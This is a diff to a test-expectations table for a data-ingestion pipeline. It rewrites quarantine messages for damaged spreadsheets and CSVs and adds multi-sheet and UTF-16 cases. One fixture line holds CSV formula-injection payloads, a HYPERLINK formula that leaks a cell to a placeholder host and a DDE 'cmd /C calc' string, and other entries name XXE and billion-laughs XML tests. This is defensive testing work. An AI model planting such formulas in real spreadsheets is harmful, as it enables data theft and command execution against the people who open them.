@@ -103,10 +103,17 @@ EXPECTED = {
         1, 1, notes="ignored hidden sheet 'version_anterior'; ignored veryHidden sheet 'calculos'",
         staged=("period_start::VARCHAR, value", [("2022-01-01", 40.0)])),
     "cla_log/dimension_understates_rows.xlsx": Loaded(5, 5),
-    "cla_log/rows_beyond_excel_limit.xlsx": Quarantined("sheet 'Sheet' has more than 1,048,576 rows"),
-    "cla_log/empty_sheet.xlsx": Quarantined("no header row naming this source's columns in the first 20 rows"),
-    "cla_log/truncated.xlsx": Quarantined("not a readable .xlsx workbook"),
-    "projects/legacy_xls_renamed.xlsx": Quarantined("this is a legacy .xls workbook renamed .xlsx"),
+    "cla_log/rows_beyond_excel_limit.xlsx": Quarantined(
+        "sheet 'Sheet' has more than 1,048,576 rows, more than Excel allows, so it was not saved by Excel and cannot be "
+        "checked in it; split it into workbooks of at most 1,048,576 rows each, the header included"),
+    "cla_log/empty_sheet.xlsx": Quarantined(
+        "cla_log/empty_sheet.xlsx: sheet 'Sheet' is empty in its first 20 rows, where the header must be; put the source's column names (docs/data-contract.md) in the "
+        "row above the data"),
+    "cla_log/truncated.xlsx": Quarantined(
+        "not a readable .xlsx workbook (BadZipFile: File is not a zip file); open it in Excel or LibreOffice and save "
+        "it again as .xlsx, or ask for it again"),
+    "projects/legacy_xls_renamed.xlsx": Quarantined(
+        "this is a legacy .xls workbook renamed .xlsx; open it in Excel or LibreOffice and save it as .xlsx"),
     # -- keys, dates, ranges, cross-field and cross-source rules, codes
     "indicator_reports/duplicate_keys.csv": Loaded(3, 1, ((2, "project_code", "unique"), (4, "project_code", "unique"))),
     "outcomes/duplicate_outcome_ids.csv": Loaded(2, 0, ((2, "outcome_id", "unique"), (3, "outcome_id", "unique"))),
@@ -153,14 +160,22 @@ EXPECTED = {
         (3, "curp", "str_matches"), (4, "phone", "str_matches"), (5, "email", "str_matches"),
         (6, "curp", "any_present"))),
     # -- empty, truncated, damaged and mislabelled files
-    "targets/zero_bytes.csv": Quarantined("the file is empty (0 bytes)"),
+    "targets/zero_bytes.csv": Quarantined(
+        "the file is empty (0 bytes); it was not exported or uploaded whole: send it again"),
     "msc_stories/header_only.csv": Loaded(0, 0),
-    "sentinel/blank_first_line.csv": Quarantined("the first line is blank; the header must be on line 1"),
-    "indicator_reports/title_rows_above_header.csv": Quarantined("missing required column(s): project_code"),
+    "sentinel/blank_first_line.csv": Quarantined(
+        "line 1 is blank; delete the blank lines above the header, which must be line 1"),
+    "indicator_reports/title_rows_above_header.csv": Quarantined(
+        "the header lacks required column(s): project_code (or proyecto/codigo_proyecto), indicator_code (or "
+        "codigo_indicador/indicador), period_start (or periodo_inicio/inicio_periodo), period_end (or "
+        "periodo_fin/fin_periodo); name them as docs/data-contract.md does (a CSV file's header is its line 1: delete "
+        "any title lines above it)"),
     "participants/two_columns_meaning_name.csv": Quarantined(
-        "columns 'nombre' and 'nombre_completo' both mean 'full_name'"),
+        "the header has columns 'nombre' and 'nombre_completo', which both mean 'full_name'; keep one and delete the "
+        "other"),
     "targets/unsupported_extension.json": Quarantined("'.json' files are not accepted here"),
-    "participants/binary_garbage.csv": Quarantined("binary content (a NUL byte at byte 4)"),
+    "participants/binary_garbage.csv": Quarantined(
+        "binary content (a NUL byte at byte 4); this is not a text file: export the data as 'CSV UTF-8' or .xlsx"),
     "msc_stories/binary_without_nul_bytes.csv": Quarantined("not valid UTF-8 (byte 0xbf at line 1, byte 0)"),
     "indicator_reports/truncated_mid_row.csv": Loaded(3, 2, ((4, "sex", "malformed_row"),)),
     "indicator_reports/unterminated_quote_on_last_row.csv": Loaded(3, 2, ((4, "notes", "malformed_row"),)),
@@ -177,6 +192,28 @@ EXPECTED = {
     "indicator_reports/formula_text_cells.csv": Loaded(4, 4, staged=("notes", [
         ('=HYPERLINK("http://example.invalid/?x="&A1,"ver")',), ("+52 1 555 0000",),
         ("@SUM(1+1)*cmd|' /C calc'!A0",), ("-2+3",)])),
+    # -- workbooks with several sheets, and formulas never computed (readers: sheets, formula cells)
+    "indicator_reports/two_data_sheets.xlsx": Loaded(
+        7, 5, ((4, "value", "greater_than_or_equal_to"), (5, "project_code", "unique"))),
+    "indicator_reports/summary_sheet_before_the_data.xlsx": Loaded(
+        2, 1, ((3, "indicator_code", "reference"),),
+        notes="not read: sheet 'Resumen': the header lacks required column(s): period_start (or periodo_inicio/inicio_periodo), "
+              "period_end (or periodo_fin/fin_periodo)"),
+    "indicator_reports/no_sheet_with_the_columns.xlsx": Quarantined(
+        "indicator_reports/no_sheet_with_the_columns.xlsx: no visible sheet is a table of this source: sheet "
+        "'Instrucciones' has no header row: none of its first 20 rows names two or more of this source's columns "
+        "(project_code, indicator_code, period_start, period_end, ...); sheet 'Resumen': the header lacks required column(s): "
+        "period_start (or periodo_inicio/inicio_periodo), period_end (or periodo_fin/fin_periodo); put the source's "
+        "column names (docs/data-contract.md) in the row above the data"),
+    "indicator_reports/formula_without_computed_value.xlsx": Loaded(
+        3, 2, ((4, "value", "malformed_row"),), notes="ignored unknown column(s): control"),
+    # -- UTF-16 without a byte-order mark (readers: encodings)
+    "indicator_reports/utf16le_without_byte_order_mark.csv": Loaded(
+        2, 2, notes="read as UTF-16 (little-endian, without a byte-order mark)",
+        staged=("state, notes", [("total", None), ("Querétaro", "revisado \u2013 ok")])),
+    "indicator_reports/utf16be_without_byte_order_mark.csv": Loaded(
+        2, 2, notes="read as UTF-16 (big-endian, without a byte-order mark)",
+        staged=("state, notes", [("total", None), ("Querétaro", "revisado \u2013 ok")])),
     # -- XML
     "iati/external_entity_xxe.xml": Quarantined("line 2 declares a DTD"),
     "iati/billion_laughs.xml": Quarantined("line 2 declares a DTD"),
